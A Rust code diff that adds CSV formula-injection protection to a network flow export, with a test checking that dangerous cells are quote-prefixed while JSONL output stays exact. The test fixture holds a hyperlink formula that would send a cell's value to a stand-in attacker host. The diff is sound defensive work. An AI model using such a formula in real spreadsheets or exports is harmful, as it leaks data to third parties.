@@ -8,6 +8,7 @@
 
 pub mod audit;
 pub mod ipfix;
+mod spreadsheet;
 
 use std::{
     io::Write as _,
@@ -25,9 +26,10 @@ use crate::store::{Filter, Store, StoredFlow};
 #[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum, Serialize)]
 #[serde(rename_all = "lowercase")]
 pub enum Format {
-    /// One row per flow with a header row (RFC 4180), for spreadsheets.
+    /// One row per flow with a header row (RFC 4180), for spreadsheets: a text cell that a
+    /// spreadsheet would run as a formula starts with `'`.
     Csv,
-    /// One JSON object per line, the same fields as the CSV.
+    /// One JSON object per line, the same fields as the CSV, every value exact.
     Jsonl,
     /// IPFIX messages (RFC 7011) as a file (RFC 5655): two records per flow, client to
     /// server and back; names and classes as enterprise-specific elements.
@@ -195,7 +197,7 @@ pub fn encode(flows: &[StoredFlow], format: Format) -> anyhow::Result<Vec<u8>> {
         Format::Csv => {
             let mut writer = csv::Writer::from_writer(Vec::new());
             for row in rows {
-                writer.serialize(row)?;
+                writer.serialize(spreadsheet::for_spreadsheet(row))?;
             }
             // A header row even when nothing matched.
             if flows.is_empty() {
@@ -302,6 +304,39 @@ mod tests {
         assert_eq!(expected[0].end_reason, "fin");
         assert_eq!(expected[0].down_bytes, 9000);
         assert_eq!(expected[1].client, "2001:db8:1::10");
+    }
+
+    #[test]
+    fn csv_cells_a_spreadsheet_would_run_are_neutralised_and_jsonl_stays_exact() {
+        let temp = TempStore::new("export-formula");
+        let mut store = FlowStore::open(&temp.path).unwrap();
+        let name = r#"=HYPERLINK("http://evil.example/?"&A1,"details")"#;
+        let mut record = flow("192.0.2.10:40000", "2026-11-23T10:00:00Z", "gambling", 7);
+        record.name = Some(name.into());
+        record.group = "@staff".into();
+        store.insert(&[record]).unwrap();
+        let stored = store.query(&Filter::default()).unwrap();
+
+        let csv_bytes = encode(&stored, Format::Csv).unwrap();
+        let mut reader = csv::Reader::from_reader(csv_bytes.as_slice());
+        let headers = reader.headers().unwrap().clone();
+        let row = reader.records().next().unwrap().unwrap();
+        let cell = |column: &str| &row[headers.iter().position(|h| h == column).unwrap()];
+        assert_eq!(cell("name"), format!("'{name}"));
+        assert_eq!(cell("group"), "'@staff");
+        assert_eq!(cell("category"), "gambling");
+        assert!(
+            row.iter()
+                .all(|c| !c.starts_with(['=', '+', '-', '@', '\t', '\r'])),
+            "{row:?}"
+        );
+
+        let jsonl = String::from_utf8(encode(&stored, Format::Jsonl).unwrap()).unwrap();
+        let exact: ExportRow = serde_json::from_str(jsonl.lines().next().unwrap()).unwrap();
+        assert_eq!(
+            (exact.name.as_str(), exact.group.as_str()),
+            (name, "@staff")
+        );
     }
 
     #[test]
